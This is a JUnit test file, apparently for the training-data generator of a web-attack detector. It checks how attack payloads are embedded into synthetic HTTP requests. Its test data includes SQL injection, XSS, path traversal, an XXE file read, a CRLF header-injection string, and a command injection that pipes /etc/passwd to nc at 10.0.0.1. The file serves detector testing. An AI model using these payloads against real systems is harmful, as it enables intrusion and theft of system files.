package dev.sluice.trainer;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sluice.detector.Field;
import dev.sluice.detector.Location;
import dev.sluice.detector.WindowReader;
import dev.sluice.trainer.CorpusRecord.Payload;
import dev.sluice.trainer.Embedder.Embedding;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class EmbedderTest {

    private final Embedder embedder = new Embedder(5);
    private final WindowReader reader = new WindowReader(Detectors.PATIENT);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1' or 1=1--",
                "\"><script>alert(1)</script>",
                "../../../etc/passwd",
                "; cat /etc/passwd | nc 10.0.0.1 99",
                "{{7*7}} and ${7*7}",
                "a & b < c, it's fine",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"
            })
    void payload_arrivesInTheFieldThatIsNamed(String payload) {
        PayloadText text = PayloadText.of(new Payload(payload, false), reader);

        IntStream.range(0, 300)
                .mapToObj(i -> embed(i, payload))
                .forEach(embedding ->
                        assertTrue(windows(embedding).anyMatch(text::overlaps), () -> describe(embedding)));
    }

    @Test
    void payloads_goToEveryLocation() {
        Set<Location> locations = EnumSet.noneOf(Location.class);
        IntStream.range(0, 500)
                .forEach(i -> locations.add(embed(i, "1' or 1=1--").field().location()));

        assertEquals(EnumSet.complementOf(EnumSet.of(Location.BODY)), locations);
    }

    @Test
    void sameSeedAndId_giveTheSameRequest() {
        assertEquals(describe(embed(3, "x'")), describe(embed(3, "x'")));
        assertArrayEquals(
                embed(3, "x'").request().body(), embed(3, "x'").request().body());
        assertNotEquals(describe(embed(3, "x'")), describe(new Embedder(6).embed("id-3", new Payload("x'", false))));
    }

    @Test
    void requestAroundAPayload_doesNotDependOnThePayload() {
        for (int i = 0; i < 200; i++) {
            CorpusRequest attack = embed(i, "1' or 1=1--").request();
            CorpusRequest benign = embed(i, "see you there").request();

            assertEquals(attack.method(), benign.method());
            assertEquals(names(attack), names(benign));
        }
    }

    @Test
    void queryString_isSentWhole() {
        CorpusRequest request = Stream.iterate(0, i -> i + 1)
                .map(i -> embedder.embed("id-" + i, new Payload("a=1&b=%27x", true))
                        .request())
                .filter(made -> made.method().equals("GET"))
                .findFirst()
                .orElseThrow();

        assertTrue(request.target().endsWith("?a=1&b=%27x"), request.target());
    }

    @Test
    void wire_holdsNoLineBreakInTargetOrHeaders() {
        Set<String> broken = new TreeSet<>();
        for (int i = 0; i < 400; i++) {
            CorpusRequest request = embed(i, "a\r\nSet-Cookie: b\u0000\u00e9").request();
            Stream.concat(
                            Stream.of(request.target()),
                            request.headers().stream().map(header -> header.value()))
                    .filter(text -> text.chars().anyMatch(c -> c < ' '))
                    .forEach(broken::add);
        }
        assertEquals(Set.of(), broken);
    }

    private Embedding embed(int id, String payload) {
        return embedder.embed("id-" + id, new Payload(payload, false));
    }

    private Stream<byte[]> windows(Embedding embedding) {
        List<byte[]> windows = new ArrayList<>();
        reader.read(embedding.request(), (field, canonical, vector) -> {
            if (carries(field, embedding.field())) {
                windows.add(canonical);
            }
        });
        return windows.stream();
    }

    /** What a value decodes to, and the parts of a document, stand under names that go on from its own. */
    private static boolean carries(Field field, Field named) {
        return field.location() == named.location()
                && field.name().toLowerCase(Locale.ROOT).startsWith(named.name().toLowerCase(Locale.ROOT));
    }

    private static List<String> names(CorpusRequest request) {
        return request.headers().stream().map(header -> header.name()).toList();
    }

    private static String describe(Embedding embedding) {
        CorpusRequest request = embedding.request();
        return embedding.field() + ": " + request.method() + " " + request.target() + " " + request.headers() + " "
                + new String(request.body(), ISO_8859_1);
    }
}
